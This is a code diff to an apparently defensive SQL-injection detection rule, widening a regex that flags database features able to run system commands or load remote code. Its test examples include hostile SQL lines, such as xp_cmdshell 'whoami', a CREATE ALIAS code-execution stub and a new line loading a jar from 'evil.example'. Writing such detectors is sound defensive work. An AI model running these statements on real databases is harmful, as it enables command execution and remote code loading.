@@ -9,7 +9,7 @@ import { WORD } from '../words.ts'
 export const databaseProgramRules: readonly Rule[] = [
   pattern(
     'sqli/program',
-    /\bcopy\b[^;\n]{1,160}?\b(?:from|to)\s{1,4}program\s{0,4}['$]|\bcreate\s{1,4}(?:or\s{1,4}replace\s{1,4})?(?:aggregate\s{1,4})?function\b[^;\n]{1,200}?(?:\bsoname\s{0,4}['"]|\blanguage\s{1,4}['"]?(?:c|plpython\d?u|plperlu|plsh)\b|['"][^'"\n]{0,80}\b(?:libc|system)\b)|\bcreate\s{1,4}alias\b[^;\n]{1,120}?(?:\bas\s{1,4}(?:\$\$|'')|\bfor\s{1,4}['"]?java\.)|\b(?:install|load)\s{1,4}['"]?(?:shellfs|httpfs)\b|\bread_csv\w{0,6}\s{0,4}\(\s{0,4}['"][^'"\n|]{1,80}\||\bxp_cmdshell\b/,
+    /\bcopy\b[^;\n]{1,160}?\b(?:from|to)\s{1,4}program\s{0,4}['$]|\bcreate\s{1,4}(?:or\s{1,4}replace\s{1,4})?(?:aggregate\s{1,4})?function\b[^;\n]{1,200}?(?:\bsoname\s{0,4}['"]|\blanguage\s{1,4}['"]?(?:c|plpython\d?u|plperlu|plsh)\b|['"][^'"\n]{0,80}\b(?:libc|system)\b)|\bcreate\s{1,4}alias\b[^;\n]{1,120}?(?:\bas\s{1,4}(?:\$\$|'')|\bfor\s{1,4}['"]?java\.)|\b(?:install|load)\s{1,4}['"]?(?:shellfs|httpfs)\b|\bread_csv\w{0,6}\s{0,4}\(\s{0,4}['"][^'"\n|]{1,80}\||\bxp_cmdshell\b|\bsqlj\.(?:install|replace)_jar\b|\bsyscs_util\.syscs_(?:backup_database|export_\w{4,8}|set_database_property)\b/,
     {
       score: 5,
       quotable: true,
@@ -21,6 +21,8 @@ export const databaseProgramRules: readonly Rule[] = [
         'CREATE ALIAS RUN AS $$ String run(String c) { return c; } $$',
         "install shellfs from community; load shellfs; select * from read_csv('id |')",
         "exec xp_cmdshell 'whoami'",
+        "CALL sqlj.install_jar('http://evil.example/x.jar','a.b',0)",
+        "call SYSCS_UTIL.SYSCS_BACKUP_DATABASE('/tmp/x')",
       ],
       benign: [
         'create function total(a int) returns int language sql as $$ select a $$',
